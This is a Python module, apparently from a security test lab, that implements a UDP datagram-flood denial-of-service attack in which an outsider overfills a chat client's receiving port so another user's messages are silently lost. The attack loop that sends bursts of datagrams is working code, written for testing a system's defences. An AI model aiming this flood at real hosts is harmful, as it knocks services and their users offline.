"""Rubbish, to where somebody hears whispers.

python -m attacks.datagram_flood --stage 1
"""

import asyncio
import contextlib
import socket

from attacks import Claim, Foothold, Goal, attack
from attacks.floods import until_over
from common.session import Address

BURST = 50


@attack(
    position="outsider",
    family="dos",
    goals=(
        Goal(
            "whisper",
            "drown what Alice whispers to Bob",
            "starved",
            "HHHHH",
            ablation="limits=off",
        ),
    ),
)
async def datagram_flood(foothold: Foothold, goal: Goal) -> Claim:
    """Mallory has never joined. She sends datagrams to the UDP port where Bob hears whispers, one after the other; none
    of them is a whisper, and Bob's client drops each. But they wait for that in the kernel's queue for the port, and
    what comes while a queue is full is lost without a word: so does UDP. Alice's whisper comes while it is full.
    """
    await foothold.until("talking")
    with await foothold.host.bind_udp() as sock:
        sent = await until_over(foothold, rain(sock, foothold.told("bob")))
    return Claim(did=f"sent Bob {sent} datagrams")


async def rain(sock: socket.socket, to: Address) -> int:
    """Send datagrams, some at once, until this is cancelled. Returns how many there were."""
    sent = 0
    with contextlib.suppress(asyncio.CancelledError):
        while True:
            for _ in range(BURST):
                with contextlib.suppress(OSError):  # our own network is full, or nobody listens there
                    sent += sock.sendto(b"!", to)
            await asyncio.sleep(0)  # the members of the scene share this event loop
    return sent


if __name__ == "__main__":
    from lab.attack_main import main

    main("datagram_flood")
